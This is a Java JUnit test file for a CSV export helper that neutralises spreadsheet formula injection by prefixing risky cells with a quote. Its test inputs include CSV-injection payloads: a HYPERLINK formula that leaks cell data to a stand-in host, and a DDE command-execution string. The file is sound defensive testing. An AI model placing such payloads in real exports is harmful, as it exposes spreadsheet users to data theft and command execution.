package nl.gezinscoaching.query.support;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.mock.web.MockHttpServletResponse;

/** CSV cells that a spreadsheet would run as formulas are written as text (OWASP's rule). */
class CsvTest {

    record Row(String agency, long daysOver, Object value, LocalDate referredOn) {
    }

    private static String csv(Row... rows) {
        return Csv.of("test", Row.class, List.of(rows)).getBody();
    }

    private static List<Map<String, String>> parsed(String csv) throws Exception {
        try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            return rows.readAll();
        }
    }

    @Test
    void aTextThatBeginsLikeAFormulaIsPrefixedWithASingleQuoteAndQuoted() {
        String csv = csv(new Row("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"GGZ\")", 3, 1, LocalDate.of(2026, 1, 2)));
        assertThat(csv.lines().toList().get(1))
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"GGZ\"\")\",3,1,\"2026-01-02\"");
    }

    @Test
    void everyFormulaTriggerOfOwaspIsNeutralised() throws Exception {
        List<String> attacks = List.of("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\0=1+1",
                "=cmd|' /C calc'!A0");
        Row[] rows = attacks.stream().map(text -> new Row(text, 0, null, null)).toArray(Row[]::new);
        List<Map<String, String>> cells = parsed(csv(rows));
        assertThat(cells).extracting(row -> row.get("agency"))
                .containsExactlyElementsOf(attacks.stream().map(text -> "'" + text).toList());
    }

    @Test
    void ordinaryTextsAreQuotedButKeptAsTheyAre() throws Exception {
        String csv = csv(new Row("Schuldhulp", 1, "x", null), new Row("GGZ; =1+1", 2, "a=b", null),
                new Row("", 3, null, null));
        List<String> lines = csv.lines().toList();
        assertThat(lines.get(0)).as("the header").isEqualTo("\"agency\",\"daysOver\",\"value\",\"referredOn\"");
        assertThat(lines.get(1)).isEqualTo("\"Schuldhulp\",1,\"x\",");
        assertThat(lines.get(2)).as("a separator of another locale cannot start a cell").isEqualTo("\"GGZ; =1+1\",2,\"a=b\",");
        assertThat(parsed(csv)).extracting(row -> row.get("agency")).containsExactly("Schuldhulp", "GGZ; =1+1", "");
    }

    @Test
    void numbersStayNumbersEvenWhenNegative() {
        String csv = csv(new Row("GGZ", -12, -0.5, LocalDate.of(2026, 11, 22)));
        assertThat(csv.lines().toList().get(1)).isEqualTo("\"GGZ\",-12,-0.5,\"2026-11-22\"");
    }

    @Test
    void aStreamedListIsWrittenRowByRowWithItsHeaderEvenWhenEmpty() throws Exception {
        MockHttpServletResponse response = new MockHttpServletResponse();
        Csv.stream(response, "reads-t/1\"x", Row.class, sink -> {
            sink.accept(new Row("=1+1", -1, 2.5, LocalDate.of(2026, 1, 2)));
            sink.accept(new Row("GGZ", 0, null, null));
        });
        assertThat(response.getContentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(response.getHeader("Content-Disposition")).isEqualTo("attachment; filename=\"reads-t_1_x.csv\"");
        assertThat(response.getContentAsString().lines()).containsExactly(
                "\"agency\",\"daysOver\",\"value\",\"referredOn\"", "\"'=1+1\",-1,2.5,\"2026-01-02\"", "\"GGZ\",0,,");

        MockHttpServletResponse empty = new MockHttpServletResponse();
        Csv.stream(empty, "empty", Row.class, sink -> { });
        assertThat(empty.getContentAsString().lines()).containsExactly("\"agency\",\"daysOver\",\"value\",\"referredOn\"");
    }
}
